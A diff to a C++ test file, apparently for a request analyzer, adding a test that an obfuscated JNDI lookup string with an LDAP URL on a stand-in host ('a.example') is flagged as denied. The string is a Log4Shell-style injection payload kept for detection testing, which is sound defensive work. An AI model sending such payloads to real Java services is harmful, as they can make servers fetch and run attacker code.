@@ -120,6 +120,12 @@ constexpr const char* kOrdinary[] = {
     "100% {sure}",
 };
 
+// A lookup within a lookup's name, whose value nobody outside of the server knows.
+TEST(Java, NamesOfLookupsThatLookupsMake) {
+  EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer_named("java"), "${jn${date:di}:ldap://a.example/x}")));
+  EXPECT_EQ(verdict_of(analyzer_named("java"), "${a.${b}}"), "-");
+}
+
 TEST(Java, OrdinaryTextPassesAtBalanced) {
   for (const char* text : kOrdinary) {
     for (const Location location : {Location::kQuery, Location::kBody})
